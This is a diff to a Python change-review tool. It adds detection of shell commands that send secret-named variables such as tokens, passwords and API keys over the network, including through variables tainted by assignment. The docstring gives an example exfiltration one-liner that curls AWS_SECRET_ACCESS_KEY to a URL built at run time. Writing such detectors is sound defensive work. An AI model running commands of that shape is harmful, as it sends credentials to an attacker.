@@ -25,6 +25,10 @@ MAX_COMMANDS = 15
 _URL_RE = re.compile(r"(?i)\b(?:https?|ftps?|sftp|wss?)://[^\s<>\"'`)\]}|\\]+")
 _IP_RE = re.compile(r"(?<![\w.=/-])(?:\d{1,3}\.){3}\d{1,3}(?![\w.])")
 _FENCE_RE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
+_SECRET_REF = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY"
+                         r"|CREDENTIAL)[A-Za-z0-9_]*)", re.IGNORECASE)
+_ASSIGN = re.compile(r"(?:^|[;&|]\s*|\bexport\s+|\blocal\s+)([A-Za-z_][A-Za-z0-9_]*)=")
+_VAR_REF = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
 _RESERVED_SUFFIXES = (".example", ".invalid", ".test", ".localhost", "example.com", "example.org", "example.net")
 
 
@@ -109,15 +113,53 @@ def hosts(side: Side) -> dict[str, list[tuple[str, int, str, bool]]]:
     return out
 
 
+def _host_of(url: str) -> str:
+    try:
+        host = (urlsplit(url.rstrip(".,;:!?*_")).hostname or "").rstrip(".")
+    except ValueError:
+        return ""
+    return host if host and "$" not in host else ""
+
+
 def reserved(host: str) -> bool:
     return (host in ("localhost", "0.0.0.0", "::1") or host.startswith("127.")
             or any(host == s.lstrip(".") or host.endswith(s if s.startswith(".") else "." + s)
                    for s in _RESERVED_SUFFIXES))
 
 
+def secret_sends(side: Side) -> dict[tuple[str, str], tuple[str, int]]:
+    """(secret variable, command) -> where, for commands that may send a secret over the network.
+
+    A destination assembled at run time (``u="https://"$H; curl "$u?k=$AWS_SECRET_ACCESS_KEY"``)
+    names no host a reviewer could read, so what is flagged is the secret reaching a network
+    command, directly or through a variable assigned from it (or from a URL fragment).
+    """
+    out: dict[tuple[str, str], tuple[str, int]] = {}
+    for rel, text in sorted(side.texts.items()):
+        tainted: dict[str, str] = {}
+        for line, cmd in shell_lines(rel, text):
+            secrets = [m.group(1) for m in _SECRET_REF.finditer(cmd)]
+            secrets += [tainted[v] for v in (m.group(1) for m in _VAR_REF.finditer(cmd)) if v in tainted]
+            for m in _ASSIGN.finditer(cmd):
+                if secrets:
+                    tainted[m.group(1)] = secrets[0]
+            if secrets and (_programs(cmd) & NETWORK_PROGRAMS or "://" in cmd):
+                out.setdefault((secrets[0], cmd), (rel, line))
+    return out
+
+
 def compare_hosts(old: Side | None, new: Side) -> list[Item]:
     before = hosts(old) if old else {}
     items = []
+    sent_before = secret_sends(old) if old else {}
+    for (secret, cmd), (rel, line) in secret_sends(new).items():
+        if (secret, cmd) not in sent_before:
+            literal = [h for m in _URL_RE.finditer(cmd) if (h := _host_of(m.group(0)))]
+            where = f"to {code(literal[0])}" if literal else "to an address built at run time"
+            items.append(Item("host-added", "danger", f"a command sends {code('$' + secret)} over the network {where}: "
+                              f"{code(cmd)}", new.path(rel), line,
+                              {"host": literal[0] if literal else "(built at run time)", "secret": secret,
+                               "in_command": True}))
     for host, seen in sorted(hosts(new).items()):
         if host in before:
             continue
